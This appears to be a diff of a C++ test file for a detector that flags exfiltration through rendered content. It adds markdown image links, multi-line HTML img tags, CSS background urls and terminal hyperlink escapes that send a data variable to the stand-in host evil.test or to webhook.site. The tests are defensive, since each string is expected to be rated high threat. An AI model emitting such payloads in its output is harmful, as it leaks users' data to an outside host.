@@ -479,7 +479,8 @@ TEST(MarkdownLinks, EveryPartOfTheAddress) {
         "![x](https://evil.test/p/" + hex("https://evil.test/a.png?d=" + data) + ")"})
     EXPECT_EQ(level(t), ThreatLevel::kHigh) << t;
   for (const std::string& t : {"![x](\nhttps://evil.test/p.png?d=" + data + ")", "![x](\n  <https://evil.test/p.png?d=" + data + ">)", "![a\nb](https://evil.test/p.png?d=" + data + ")",
-                               "![x][1]\n\n[1]:\n  https://evil.test/p.png?d=" + data, std::string("\033]8;;https://webhook.site/x\033\\Click\033]8;;\033\\")})
+                               "![x][1]\n\n[1]:\n  https://evil.test/p.png?d=" + data, "![x][1]\n\n[1]: <https://evil.test/p.png?d=" + data + ">",
+                               "<img\n  src=\n  \"https://evil.test/p.gif?q=" + data + "\">", "<div style=\"background:url(\n'https://evil.test/a/" + data + "')\">", std::string("\033]8;;https://webhook.site/x\033\\Click\033]8;;\033\\")})
     EXPECT_EQ(level(t), ThreatLevel::kHigh) << t;
   // What a terminal shows other words for.
   for (const std::string& t : {"\033]8;;https://evil.test/?d=" + data + "\033\\Click\033]8;;\033\\", "\033]8;id=1;https://evil.test/?v=1&d=" + data + "\aClick\033]8;;\a"})
